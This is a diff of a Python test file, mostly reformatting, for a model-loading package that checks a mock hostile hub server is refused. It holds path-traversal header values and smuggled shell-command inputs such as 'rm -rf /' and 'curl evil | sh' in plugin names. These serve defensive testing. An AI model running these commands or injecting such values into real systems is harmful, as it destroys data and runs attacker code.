@@ -30,8 +30,16 @@ from mmcore.errors import DataError, MMCoreError, PluginError  # noqa: E402
 from mmcore.hub import push  # noqa: E402
 from mmcore.model import MaskedModel, check_plugins  # noqa: E402
 from mmcore.plugins import get_registry, install_hint  # noqa: E402
-from test_hub import (HUB_VENVS, ROOT, TOKEN, cli_error, make_folder, one_line_error, run_cli,  # noqa: E402
-                      same_weights)
+from test_hub import (
+    HUB_VENVS,
+    ROOT,
+    TOKEN,
+    cli_error,
+    make_folder,
+    one_line_error,
+    run_cli,  # noqa: E402
+    same_weights,
+)
 
 UP = "../" * 5  # from HF_HOME/hub/models--alice--x/{blobs,snapshots,trees}/ up to tmp_path
 OUT = "{tmp}/"  # an absolute path into tmp_path
@@ -48,10 +56,18 @@ CASES = {
     "commit sha of a branch": ({"sha": "main"}, "alice/x", "main", "gave 'main' as the commit of alice/x@main"),
     "X-Repo-Commit ../": ({"commit": UP + "escaped-commit"}, "alice/x", None, BAD_HEAD),
     "X-Repo-Commit absolute": ({"commit": OUT + "abs-commit"}, "alice/x", None, BAD_HEAD),
-    "404 with X-Repo-Commit ../": ({"gone": {"model.safetensors": UP + "escaped-commit"}}, "alice/x", None,
-                                   "model.safetensors not found in alice/x"),
-    "404 with X-Repo-Commit absolute": ({"gone": {"model.safetensors": OUT + "abs-commit"}}, "alice/x", None,
-                                        "model.safetensors not found in alice/x"),
+    "404 with X-Repo-Commit ../": (
+        {"gone": {"model.safetensors": UP + "escaped-commit"}},
+        "alice/x",
+        None,
+        "model.safetensors not found in alice/x",
+    ),
+    "404 with X-Repo-Commit absolute": (
+        {"gone": {"model.safetensors": OUT + "abs-commit"}},
+        "alice/x",
+        None,
+        "model.safetensors not found in alice/x",
+    ),
     "ETag ../": ({"etag": UP + "escaped-etag"}, "alice/x", None, BAD_HEAD),
     "ETag absolute": ({"etag": OUT + "abs-etag"}, "alice/x", None, BAD_HEAD),
     "ETag not a sha": ({"etag": "not-a-sha"}, "alice/x", None, BAD_HEAD),
@@ -62,8 +78,12 @@ CASES = {
     "listed name ../ inside": ({"names": ["sub/../../escaped-name"]}, "alice/x", None, BAD_NAME),
     "Content-Length longer": ({"length": 100}, "alice/x", None, r"network error|arrived incomplete"),
     "Content-Length shorter": ({"length": -100}, "alice/x", None, "model.safetensors from alice/x .* incomplete"),
-    "weights differ from their sha256": ({"swap": True}, "alice/x", None,
-                                         "model.safetensors from alice/x on .* does not match the sha the Hub listed"),
+    "weights differ from their sha256": (
+        {"swap": True},
+        "alice/x",
+        None,
+        "model.safetensors from alice/x on .* does not match the sha the Hub listed",
+    ),
     "missing repo": ({}, "alice/nope", None, "repo alice/nope not found on http://127"),
     "missing repo, no X-Error-Code": ({"no_codes": True}, "alice/nope", None, "repo alice/nope not found on http://"),
     "missing revision": ({}, "alice/x", "v404", "revision 'v404' not found in alice/x on http://127"),
@@ -91,8 +111,13 @@ def point_at(mp: pytest.MonkeyPatch, server: HostileHubServer, home: Path) -> No
     mp.setattr(constants, "HF_HUB_DISABLE_XET", True)
     mp.setattr(constants, "HF_HOME", str(home))
     mp.setattr(constants, "HF_HUB_CACHE", str(home / "hub"))
-    for key, value in {"HF_HOME": str(home), "HF_HUB_OFFLINE": "0", "HF_HUB_DISABLE_XET": "1",
-                       "HF_TOKEN": TOKEN, "HF_ENDPOINT": server.url}.items():
+    for key, value in {
+        "HF_HOME": str(home),
+        "HF_HUB_OFFLINE": "0",
+        "HF_HUB_DISABLE_XET": "1",
+        "HF_TOKEN": TOKEN,
+        "HF_ENDPOINT": server.url,
+    }.items():
         mp.setenv(key, value)
 
 
@@ -125,25 +150,25 @@ def outside_the_cache(before: dict[str, str], after: dict[str, str]) -> dict[str
     """What changed in tmp_path other than HF_HOME/hub (and the folders above it)."""
     changed = {k: v for k, v in after.items() if before.get(k) != v}
     changed.update({k: "deleted" for k in before.keys() - after.keys()})
-    return {k: v for k, v in changed.items() if k not in ("home", "home/hf", "home/hf/hub")
-            and not k.startswith("home/hf/hub/")}
+    return {k: v for k, v in changed.items() if k not in ("home", "home/hf", "home/hf/hub") and not k.startswith("home/hf/hub/")}
 
 
 def fill(attacks: dict, tmp_path: Path) -> dict:
     """The attacks with ``{tmp}/`` made this test's tmp_path."""
+
     def fix(v):
         if isinstance(v, dict):
             return {k: fix(x) for k, x in v.items()}
         if isinstance(v, list):
             return [fix(x) for x in v]
         return v.replace(OUT, f"{tmp_path}/") if isinstance(v, str) else v
+
     return fix(attacks)
 
 
 @pytest.mark.parametrize("via", ["mm pull", "from_pretrained"])
 @pytest.mark.parametrize("case", list(CASES))
-def test_hostile_hub_is_refused_in_one_line_and_writes_nothing_outside_the_cache(hostile, case, via, tmp_path,
-                                                                                 capsys, monkeypatch):
+def test_hostile_hub_is_refused_in_one_line_and_writes_nothing_outside_the_cache(hostile, case, via, tmp_path, capsys, monkeypatch):
     import huggingface_hub.file_download as fd
 
     monkeypatch.setattr(fd.time, "sleep", lambda s: None)  # http_get's pauses between its retries
@@ -174,8 +199,7 @@ def test_a_pull_after_a_refused_one_gets_the_honest_folder(hostile, tmp_path, ca
     hostile.attacks.clear()
     code, out, err = run_cli(capsys, "pull", "alice/x")
     assert code == 0, err
-    assert (Path(out.strip()) / "model.safetensors").read_bytes() == (
-        hostile.folder / "model.safetensors").read_bytes()
+    assert (Path(out.strip()) / "model.safetensors").read_bytes() == (hostile.folder / "model.safetensors").read_bytes()
     blobs = tmp_path / "home" / "hf" / "hub" / "models--alice--x" / "blobs"
     assert not [p for p in blobs.iterdir() if p.name.startswith(".")]  # no temporary file left behind
 
@@ -225,11 +249,16 @@ def test_upstream_huggingface_hub_writes_where_the_server_says(hostile, tmp_path
     python = sys.executable if version == "2." else str(ROOT / HUB_VENVS[version] / "bin" / "python")
     if not Path(python).exists():
         pytest.fail(f"{HUB_VENVS[version]} is missing: run `make hub-venvs`")
-    hostile.attacks.update({"sha": UP + "escaped-sha", "etag": UP + "escaped-etag",
-                            "gone": {"gone.json": UP + "escaped-commit"}})
+    hostile.attacks.update({"sha": UP + "escaped-sha", "etag": UP + "escaped-etag", "gone": {"gone.json": UP + "escaped-commit"}})
     caches = [tmp_path / "home" / "hf" / name for name in ("hub", "hub2", "hub3")]
-    out = subprocess.run([python, "-c", HUB_DEMO, *map(str, caches)], capture_output=True, text=True, check=False,
-                         timeout=120, env={**os.environ, "HF_HUB_OFFLINE": "0", "HF_HUB_DISABLE_XET": "1"})
+    out = subprocess.run(
+        [python, "-c", HUB_DEMO, *map(str, caches)],
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=120,
+        env={**os.environ, "HF_HUB_OFFLINE": "0", "HF_HUB_DISABLE_XET": "1"},
+    )
     assert out.returncode == 0, out.stderr[-3000:]
     result = json.loads(out.stdout.strip().splitlines()[-1])
     assert result["version"].startswith(version)
@@ -237,7 +266,8 @@ def test_upstream_huggingface_hub_writes_where_the_server_says(hostile, tmp_path
     # the commit sha (snapshots/<sha>; trees/<sha>.json from 1.x), the ETag (blobs/<etag>, with the file's
     # bytes, and its .lock) and X-Repo-Commit on a 404 (.no_exist/<sha>/gone.json)
     assert {"escaped-sha", "escaped-etag", "escaped-etag.lock", "escaped-commit"} <= set(escaped), (
-        f"huggingface_hub {result['version']} no longer writes {escaped} outside the cache ({result['errors']})")
+        f"huggingface_hub {result['version']} no longer writes {escaped} outside the cache ({result['errors']})"
+    )
     assert (tmp_path / "escaped-etag").stat().st_size > 0  # the bytes of a file the server chose
     assert (tmp_path / "escaped-commit" / "gone.json").is_file()
 
@@ -254,10 +284,22 @@ def test_checking_headers_before_hf_hub_download_would_not_be_enough(hostile, tm
 
 # -- pip install hints from a stranger's config.json ------------------------------
 
-@pytest.mark.parametrize("dist, version", [
-    ("mm-x; rm -rf /", "1.0"), ("mm-x' && curl evil | sh '", "1.0"), ("mm-x\n", "1.0"), ("-e", "1.0"),
-    ("mm-x", "1.0'; rm -rf ~; '"), ("mm-x", "1.0\n"), ("mm-x", "latest"), ("mm-x", "1.0 "), (3, "1.0"), ("mm-x", None),
-])
+
+@pytest.mark.parametrize(
+    "dist, version",
+    [
+        ("mm-x; rm -rf /", "1.0"),
+        ("mm-x' && curl evil | sh '", "1.0"),
+        ("mm-x\n", "1.0"),
+        ("-e", "1.0"),
+        ("mm-x", "1.0'; rm -rf ~; '"),
+        ("mm-x", "1.0\n"),
+        ("mm-x", "latest"),
+        ("mm-x", "1.0 "),
+        (3, "1.0"),
+        ("mm-x", None),
+    ],
+)
 def test_no_pip_install_line_for_a_name_or_version_that_is_not_one(dist, version):
     config = {"modality": "image", "plugins": {dist: version}}
     with pytest.raises(PluginError) as caught:
@@ -280,8 +322,7 @@ def test_mm_pull_of_a_strangers_config_shows_no_install_command(hostile, capsys)
     api = HfApi()
     api.create_repo("alice/stranger", exist_ok=True)
     api.upload_file(path_or_fileobj=json.dumps(config).encode(), path_in_repo="config.json", repo_id="alice/stranger")
-    api.upload_file(path_or_fileobj=str(hostile.folder / "model.safetensors"), path_in_repo="model.safetensors",
-                    repo_id="alice/stranger")
+    api.upload_file(path_or_fileobj=str(hostile.folder / "model.safetensors"), path_in_repo="model.safetensors", repo_id="alice/stranger")
     line = cli_error(capsys, "pull", "alice/stranger")
     assert "pip install" not in line and repr("mm-x' ; curl evil|sh ; '") in line
     with pytest.raises(PluginError, match="not a valid distribution name and version"):
@@ -306,6 +347,7 @@ def test_unknown_modality_hint_only_for_a_valid_name():
 
 # -- weights whose dtype or shape is not the model's ------------------------------
 
+
 def rewrite(folder: Path, change) -> Path:
     state = load_file(folder / "model.safetensors")
     change(state)
@@ -318,12 +360,16 @@ def a_matrix(state: dict) -> str:
 
 
 WEIGHT_CASES = {
-    "transposed (same bytes)": (lambda s, k: s.__setitem__(k, s[k].t().contiguous()),
-                                r"is F32 \[(\d+), (\d+)\], the model built from config.json has F32 \[\2, \1\]"),
+    "transposed (same bytes)": (
+        lambda s, k: s.__setitem__(k, s[k].t().contiguous()),
+        r"is F32 \[(\d+), (\d+)\], the model built from config.json has F32 \[\2, \1\]",
+    ),
     "float32 read as int32": (lambda s, k: s.__setitem__(k, s[k].view(torch.int32)), r"is I32 .* has F32"),
     "float32 as float16 pairs": (lambda s, k: s.__setitem__(k, s[k].view(torch.float16)), r"is F16 .* has F32"),
-    "an extra tensor": (lambda s, k: s.__setitem__("evil.weight", torch.zeros(3)),
-                        r"missing tensors none, unexpected tensors 'evil.weight'"),
+    "an extra tensor": (
+        lambda s, k: s.__setitem__("evil.weight", torch.zeros(3)),
+        r"missing tensors none, unexpected tensors 'evil.weight'",
+    ),
     "a missing tensor": (lambda s, k: s.pop(k), r"missing tensors '[^']+', unexpected tensors none"),
 }
 
@@ -348,4 +394,3 @@ def test_transposed_weights_from_the_hub_are_refused(hostile, tmp_path, capsys):
     push(folder, "alice/transposed")  # the file itself is intact: only its tensors are not the model's
     with pytest.raises(DataError, match=rf"tensor {re.escape(repr(key))} is F32 \[\d+, \d+\], the model"):
         mmcore.from_pretrained("alice/transposed")
-
